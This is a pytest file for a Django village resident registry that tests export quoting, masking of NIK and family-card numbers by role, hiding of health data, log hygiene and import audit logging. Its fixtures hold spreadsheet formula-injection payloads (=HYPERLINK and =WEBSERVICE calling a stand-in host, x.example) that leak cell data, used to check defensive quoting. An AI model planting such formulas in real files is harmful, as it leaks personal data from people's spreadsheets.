"""Export safety and what the roles that only see masked numbers can reach."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django_scopes import scopes_disabled

from balai.penduduk.models import ImporPenduduk, Penduduk
from balai.penduduk.opensid import KOLOM

from .factories import make_keluarga, make_penduduk

# A writing import on PostgreSQL saves its progress through a second connection, which sees only
# committed rows (impor.job.Progress): these tests commit instead of rolling back.
pytestmark = pytest.mark.django_db(transaction=True)

FORMULA = '=HYPERLINK("http://x.example/?"&B2,"klik")'


@pytest.fixture
def client_a(desa_a, operator_a, client_for):
    return client_for(desa_a, operator_a)


@pytest.fixture
def warga_formula(desa_a):
    with scopes_disabled():
        return make_penduduk(
            desa_a,
            nama=FORMULA,
            tempat_lahir="+62 Purbalingga",
            suku="@SUM(A1)",
            alamat_sekarang="-1+2",
            lat="-7.39123456",
            lng="109.36123456",
            keluarga=make_keluarga(desa_a, alamat='=WEBSERVICE("http://x.example")'),
        )


def _ekspor(client, fmt):
    response = client.post("/admin-desa/penduduk/ekspor/", {"format": fmt, "status_dasar": "0"})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_xlsx_export_writes_formula_like_text_as_text_and_round_trips(desa_a, client_a, warga_formula):
    from openpyxl import load_workbook
    from python_calamine import CalamineWorkbook

    content = _ekspor(client_a, "xlsx")
    ws = load_workbook(io.BytesIO(content)).active
    header = [c.value for c in ws[1]]
    cells = {name: cell for name, cell in zip(header, ws[2], strict=True)}
    assert cells["nama"].data_type == "s" and cells["nama"].value == FORMULA
    assert cells["alamat"].data_type == "s" and cells["alamat"].value.startswith("=WEBSERVICE")
    # What the importer reads (python-calamine): the text as it was, no apostrophe to strip.
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["nama"] == FORMULA and row["tempatlahir"] == "+62 Purbalingga" and row["suku"] == "@SUM(A1)"

    # Export -> import keeps the values (the import updates the same resident).
    with scopes_disabled():
        Penduduk.objects.filter(pk=warga_formula.pk).update(nama="X", suku="")
    client_a.post(
        "/admin-desa/penduduk/impor/",
        {"berkas": SimpleUploadedFile("ekspor.xlsx", content), "mode": "semua"},
    )
    with scopes_disabled():
        job = ImporPenduduk.objects.latest("dibuat")
        assert job.status == "selesai" and job.jumlah_galat == 0, job.galat
        p = Penduduk.objects.get(pk=warga_formula.pk)
    assert (p.nama, p.suku, p.tempat_lahir) == (FORMULA, "@SUM(A1)", "+62 Purbalingga")


def test_csv_export_quotes_formula_like_text_but_not_numbers(client_a, warga_formula):
    content = _ekspor(client_a, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0] == KOLOM
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["nama"] == "'" + FORMULA
    assert row["tempatlahir"] == "'+62 Purbalingga" and row["suku"] == "'@SUM(A1)"
    assert row["alamat"].startswith("'=WEBSERVICE")
    assert row["lat"] == "-7.39123456", "numbers are not quoted"
    assert row["dusun"] == "-", "OpenSID's empty marker stays"


def test_csv_export_of_formula_like_text_round_trips(desa_a, client_a, warga_formula):
    content = _ekspor(client_a, "csv")
    with scopes_disabled():
        Penduduk.objects.filter(pk=warga_formula.pk).update(nama="X", suku="")
    client_a.post(
        "/admin-desa/penduduk/impor/",
        {"berkas": SimpleUploadedFile("ekspor.csv", content), "mode": "semua"},
    )
    with scopes_disabled():
        job = ImporPenduduk.objects.latest("dibuat")
        assert job.status == "selesai" and job.jumlah_galat == 0, job.galat
        p = Penduduk.objects.get(pk=warga_formula.pk)
    assert (p.nama, p.suku, p.tempat_lahir) == (FORMULA, "@SUM(A1)", "+62 Purbalingga")


def test_nul_character_in_an_imported_cell_is_refused(desa_a, client_a, warga_formula):
    content = _ekspor(client_a, "csv").decode("utf-8-sig").replace("+62 Purbalingga", "Purba\x00lingga")
    response = client_a.post(
        "/admin-desa/penduduk/impor/",
        {"berkas": SimpleUploadedFile("ekspor.csv", content.encode()), "mode": "semua"},
    )
    with scopes_disabled():
        job = ImporPenduduk.objects.order_by("-dibuat").first()
        if job is None:  # refused as a whole file before any job starts
            assert response.status_code == 200 and "bukan" in response.content.decode().lower()
        else:
            assert job.jumlah_galat == 1 and "NUL" in str(job.galat)
        assert Penduduk.objects.get(pk=warga_formula.pk).tempat_lahir == "+62 Purbalingga"


@pytest.mark.parametrize("tempat", ["Purba\x00lingga", "'=1+1"])
def test_text_cells_with_nul_are_refused_and_export_quotes_are_removed(tempat):
    from balai.penduduk.impor import format, konversi

    plan = konversi.rencana(format.peta_kolom(KOLOM, 0), 0)
    cells = [""] * len(KOLOM)
    cells[KOLOM.index("tempatlahir")] = tempat
    values, errors = konversi.ubah_baris(cells, plan)
    column_errors = [e for e in errors if e[0] == "tempatlahir"]
    if "\x00" in tempat:
        assert column_errors and "NUL" in column_errors[0][2]
    else:
        assert not column_errors and values["tempatlahir"] == "=1+1"


@pytest.fixture
def perangkat_a(desa_a, make_user):
    from balai.akun.models import Peran

    return make_user(Peran.PERANGKAT_DESA, desa=desa_a)


def test_masked_roles_find_numbers_only_by_all_16_digits(desa_a, client_a, perangkat_a, client_for):
    with scopes_disabled():
        k = make_keluarga(desa_a)
        p = make_penduduk(desa_a, nama="Sutrisno Wibowo", keluarga=k)
        make_penduduk(desa_a, nama="Warga Lain")
    client = client_for(desa_a, perangkat_a)

    def daftar(c, q, url="/admin-desa/penduduk/"):
        return c.post(url, {"q": q}).content.decode()

    for prefix in (p.nik[:15], p.nik[:4]):
        assert "Sutrisno Wibowo" not in daftar(client, prefix)
    assert "Sutrisno Wibowo" in daftar(client, p.nik)
    assert "Sutrisno Wibowo" in daftar(client, "sutrisno")
    kk_url = "/admin-desa/penduduk/keluarga/"
    assert "Sutrisno Wibowo" not in daftar(client, k.no_kk[:15], kk_url)
    assert "Sutrisno Wibowo" in daftar(client, k.no_kk, kk_url)
    # The register keepers (full numbers on screen anyway) keep the prefix search.
    assert "Sutrisno Wibowo" in daftar(client_a, p.nik[:15])
    assert "Sutrisno Wibowo" in daftar(client_a, k.no_kk[:15], kk_url)


@pytest.fixture
def admin_kab(make_user):
    from balai.akun.models import Peran

    return make_user(Peran.ADMIN_KABUPATEN)


def _form_data(form):
    data = {}
    for name in form.fields:
        value = form[name].value()
        if value is None or value is False:
            continue
        data[name] = value.isoformat() if hasattr(value, "isoformat") else value
    return data


def test_export_refused_to_roles_that_see_masked_numbers(desa_a, client_a, admin_kab, client_for):
    with scopes_disabled():
        make_penduduk(desa_a)
    client = client_for(desa_a, admin_kab)
    for response in (
        client.get("/admin-desa/penduduk/ekspor/"),
        client.post("/admin-desa/penduduk/ekspor/", {"format": "csv"}),
    ):
        assert response.status_code == 403
        assert "NIK dan nomor KK lengkap" in response.content.decode()
    assert 'href="/admin-desa/penduduk/ekspor/"' not in client.get("/admin-desa/penduduk/").content.decode()
    # The village's own keepers still export.
    assert 'href="/admin-desa/penduduk/ekspor/"' in client_a.get("/admin-desa/penduduk/").content.decode()
    assert client_a.post("/admin-desa/penduduk/ekspor/", {"format": "csv"}).status_code == 200


def test_edit_forms_keep_numbers_masked_and_read_only_for_the_kabupaten(desa_a, operator_a, admin_kab, client_for):
    from balai.penduduk.forms import KeluargaForm, PendudukForm

    with scopes_disabled():
        k = make_keluarga(desa_a)
        ayah = make_penduduk(desa_a, nama="Ayah")
        p = make_penduduk(desa_a, nama="Anak", keluarga=k, ayah_nik=ayah.nik)
        data = _form_data(PendudukForm(instance=p, desa=desa_a, user=operator_a))
        data_kk = _form_data(KeluargaForm(instance=k, desa=desa_a, user=operator_a))
    url = f"/admin-desa/penduduk/{p.pk}/ubah/"
    kk_url = f"/admin-desa/penduduk/keluarga/{k.pk}/ubah/"

    # The village operator sees and edits the numbers.
    body = client_for(desa_a, operator_a).get(url).content.decode()
    assert p.nik in body and k.no_kk in body and ayah.nik in body

    client = client_for(desa_a, admin_kab)
    for page in (client.get(url).content.decode(), client.get(kk_url).content.decode()):
        assert p.nik not in page and k.no_kk not in page and ayah.nik not in page
    assert f"{p.nik[:4]}••••••••{p.nik[-4:]}" in client.get(url).content.decode()
    # Other fields can still be changed; numbers posted anyway are ignored.
    response = client.post(url, {**data, "nama": "Anak Baru", "nik": "3303000000000000", "no_kk": ""})
    assert response.status_code == 302, response.content.decode()
    response = client.post(kk_url, {**data_kk, "alamat": "Jl. Baru", "no_kk": "3303000000000001"})
    assert response.status_code == 302, response.content.decode()
    with scopes_disabled():
        p.refresh_from_db()
        k.refresh_from_db()
    assert (p.nama, p.nik, p.keluarga_id, p.ayah_nik) == ("Anak Baru", data["nik"], k.pk, ayah.nik)
    assert (k.alamat, k.no_kk) == ("Jl. Baru", data_kk["no_kk"])


def test_record_hides_health_data_and_document_numbers_from_perangkat(desa_a, operator_a, perangkat_a, client_for):
    from balai.penduduk import kode

    with scopes_disabled():
        p = make_penduduk(
            desa_a,
            jenis_kelamin=kode.PEREMPUAN,
            hamil=True,
            cacat=1,
            sakit_menahun=1,
            cara_kb=1,
            asuransi=2,
            no_asuransi="ASR-778899",
            akta_lahir="AKTA-112233",
            dokumen_pasport="PSP-445566",
            dokumen_kitas="KTS-998877",
            akta_perkawinan="NIKAH-5544",
        )
    secret = ["ASR-778899", "AKTA-112233", "PSP-445566", "KTS-998877", "NIKAH-5544", "Sedang hamil"]
    secret += [kode.nama(j, 1) for j in ("cacat", "sakit_menahun", "cara_kb")] + [kode.nama("asuransi", 2)]
    labels = ["Disabilitas", "Sakit menahun", "Akseptor KB", "Asuransi kesehatan"]
    url = f"/admin-desa/penduduk/{p.pk}/"
    full = client_for(desa_a, operator_a).get(url).content.decode()
    for text in secret + labels:
        assert text in full
    masked = client_for(desa_a, perangkat_a).get(url).content.decode()
    assert p.nama in masked
    for text in secret + labels:
        assert text not in masked, text


def test_unique_violation_past_the_checks_is_a_validation_error_without_the_nik_in_logs(
    desa_a, operator_a, monkeypatch, caplog
):
    import logging

    from django.core.exceptions import ValidationError

    from balai.penduduk import services
    from balai.penduduk.models import Keluarga

    with scopes_disabled():
        k = make_keluarga(desa_a)
        ada = make_penduduk(desa_a, keluarga=k)
    # Two people saving at once: the other write lands between the check and the save.
    monkeypatch.setattr(services, "_periksa_penduduk", lambda p, **kw: None)
    monkeypatch.setattr(Keluarga, "full_clean", lambda self, **kw: None)
    caplog.set_level(logging.DEBUG)
    with scopes_disabled():
        dobel = Penduduk(**{f.attname: getattr(ada, f.attname) for f in Penduduk._meta.concrete_fields})
        dobel.pk = dobel.id = None
        dobel.shdk = 4
        with pytest.raises(ValidationError) as info:
            services.simpan_penduduk(desa=desa_a, actor=operator_a, penduduk=dobel)
        assert info.value.message_dict == {"nik": ["NIK ini sudah dipakai penduduk hidup lain di desa ini."]}
        kepala2 = Penduduk(**{f.attname: getattr(ada, f.attname) for f in Penduduk._meta.concrete_fields})
        kepala2.pk = kepala2.id = None
        kepala2.nik = ada.nik[:-4] + "9999"
        with pytest.raises(ValidationError) as info:
            services.simpan_penduduk(desa=desa_a, actor=operator_a, penduduk=kepala2)
        assert list(info.value.message_dict) == ["shdk"]
        with pytest.raises(ValidationError) as info:
            services.simpan_keluarga(desa=desa_a, actor=operator_a, keluarga=Keluarga(no_kk=k.no_kk))
        assert list(info.value.message_dict) == ["no_kk"]
        # The transaction is still usable (the failed write was rolled back to its savepoint).
        assert Penduduk.objects.filter(desa=desa_a).count() == 1
    assert ada.nik not in caplog.text and k.no_kk not in caplog.text


def test_dry_run_import_is_audit_logged(desa_a, client_a, operator_a):
    from balai.core.models import AuditEntry

    with scopes_disabled():
        make_penduduk(desa_a)
    content = _ekspor(client_a, "csv")

    def unggah(mode):
        client_a.post(
            "/admin-desa/penduduk/impor/", {"berkas": SimpleUploadedFile("daftar.csv", content), "mode": mode}
        )

    unggah("uji")
    with scopes_disabled():
        job = ImporPenduduk.objects.latest("dibuat")
        entry = AuditEntry.objects.get(action="penduduk.impor_diperiksa")
    assert job.mode == "uji" and job.status == "selesai"
    assert (entry.actor, entry.desa, entry.object_id) == (operator_a, desa_a, str(job.pk))
    assert "daftar.csv" in entry.object_label
    # The page says how long a checked file is kept (it holds personal data).
    assert "paling lama 1 hari" in client_a.get(f"/admin-desa/penduduk/impor/{job.pk}/").content.decode()
    assert "paling lama 1 hari" in client_a.get("/admin-desa/penduduk/impor/").content.decode()
    unggah("semua")
    with scopes_disabled():
        assert AuditEntry.objects.filter(action="penduduk.impor_diperiksa").count() == 1
        assert AuditEntry.objects.filter(action="penduduk.diimpor").count() == 1
